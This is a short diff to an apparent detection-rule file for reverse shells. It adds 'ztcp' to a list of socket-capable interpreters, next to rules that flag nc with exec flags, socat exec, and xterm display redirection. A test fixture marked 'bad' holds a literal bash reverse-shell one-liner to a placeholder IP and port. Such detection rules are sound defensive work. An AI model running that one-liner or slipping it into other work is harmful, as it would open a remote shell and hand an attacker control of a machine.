@@ -28,7 +28,7 @@ export const bashRemoteRules: readonly Rule[] = [
       { call: 'nc', where: { flag: ['e', 'c', 'exec', 'sh-exec', 'lua-exec'] } },
       { call: ['xterm', 'rxvt', 'gnome-terminal'], where: { flag: ['-display', 'display'] } },
       { call: 'socat', where: { arg: 'any', regex: '(?i)(^|,)(exec|system):' } },
-      { call: ['perl.socket', 'ruby.socket', 'php.socket', 'lua.socket', 'awk.socket', 'tclsh.socket'] },
+      { call: ['ztcp', 'perl.socket', 'ruby.socket', 'php.socket', 'lua.socket', 'awk.socket', 'tclsh.socket'] },
     ],
     bad: [
       'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
